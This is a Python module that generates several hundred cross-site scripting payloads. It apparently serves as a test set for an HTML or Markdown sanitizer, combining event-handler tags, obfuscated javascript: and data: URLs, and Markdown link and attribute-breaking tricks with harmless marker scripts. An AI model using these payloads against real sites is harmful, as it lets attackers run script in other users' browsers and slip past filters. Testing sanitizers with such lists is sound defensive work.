"""What people try in order to run scripts in somebody else's browser: 250 texts and more."""

from __future__ import annotations

from itertools import product

RAW = [
    "<script>{js}</script>",
    "<ScRiPt>{js}</sCrIpT>",
    "<script src=data:,{js}></script>",
    "<img src=x onerror={js}>",
    "<img src=x onerror='{js}'//",
    "<svg onload={js}>",
    "<svg><script>{js}</script></svg>",
    "<svg><animate onbegin={js} attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:{js}><text y=20>x</text></a></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror={js}>",
    "<body onload={js}>",
    "<iframe src=javascript:{js}></iframe>",
    "<iframe srcdoc='<script>{js}</script>'></iframe>",
    "<object data=javascript:{js}></object>",
    "<embed src=javascript:{js}>",
    "<form action=javascript:{js}><button>x</button></form>",
    "<input autofocus onfocus={js}>",
    "<details open ontoggle={js}>",
    "<video><source onerror={js}></video>",
    "<audio src=x onerror={js}>",
    "<marquee onstart={js}>",
    "<link rel=stylesheet href=javascript:{js}>",
    "<meta http-equiv=refresh content='0;javascript:{js}'>",
    "<base href=javascript:{js}//>",
    "<style>@import 'javascript:{js}';</style>",
    "<a href=javascript:{js}>x</a>",
    "<template><script>{js}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={js}>'>",
    "<!--><img src=x onerror={js}>-->",
    "<![CDATA[<script>{js}</script>]]>",
    "<?xml version='1.0'?><script>{js}</script>",
    "<x onclick={js} tabindex=1 autofocus onfocus={js}>x</x>",
    "<table background=javascript:{js}><td>x</table>",
    "<div style=background:url(javascript:{js})>x</div>",
    "<isindex type=image src=1 onerror={js}>",
    "<keygen autofocus onfocus={js}>",
    "<textarea autofocus onfocus={js}>",
    "<select autofocus onfocus={js}>",
    "<dialog open onclose={js}>",
    "<portal src=javascript:{js}>",
]
ADDRESSES = [
    "javascript:{js}",
    "JaVaScRiPt:{js}",
    " javascript:{js}",
    "java\tscript:{js}",
    "java&#10;script:{js}",
    "&#106;avascript:{js}",
    "&#x6A;avascript&colon;{js}",
    "javascript&#58;{js}",
    "\x01javascript:{js}",
    "vbscript:{js}",
    "data:text/html,<script>{js}</script>",
    "data:text/html;base64,PHNjcmlwdD50b3AucHduZWQ9MTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload={js}>",
    "file:///etc/passwd",
    "blob:{js}",
    "feed:javascript:{js}",
    "view-source:javascript:{js}",
    "//javascript:{js}",
    "javascript://x%0a{js}",
    "jar:javascript:{js}!/",
]
PLACES = [
    "[x]({})",
    "[x](<{}>)",
    "![x]({})",
    "<{}>",
    "[x][1]\n\n[1]: {}",
    "[x][1]\n\n[1]: <{}>",
    '[x]({} "title")',
    "[![x]({0})]({0})",
]
BREAKING = [
    '![x](https://x "\\" onerror={js} ")',
    '[x](https://x "\'><script>{js}</script>")',
    '![" onerror="{js}](https://x)',
    '[x](https://x" onclick="{js})',
    '```"><script>{js}</script>\nx\n```',
    '```x" onclick="{js}\nx\n```',
    "`<script>{js}</script>`",
    "| <script>{js}</script> |\n|---|\n| <img src=x onerror={js}> |",
    "- [ ] <img src=x onerror={js}>",
    '- [x" onclick={js}] y',
    "[[<img src=x onerror={js}>]]",
    '[[x" onclick="{js}|<script>{js}</script>]]',
    "# <img src=x onerror={js}>",
    "> <svg onload={js}>",
    "1. <svg onload={js}>",
    "~~<svg onload={js}>~~",
    "**<b onclick={js}>x</b>**",
    "\\<script>{js}\\</script>",
    "&lt;script&gt;{js}&lt;/script&gt;",
    "&#60;script&#62;{js}&#60;/script&#62;",
]
SCRIPTS = ["top.pwned=1", "alert`1`"]


def payloads() -> list[str]:
    """Return every text."""
    addressed = [place.format(address) for place, address in product(PLACES, ADDRESSES)]
    texts = [*RAW, *addressed, *BREAKING]
    return [text.replace("{js}", js) for text in texts for js in SCRIPTS if "{js}" in text]
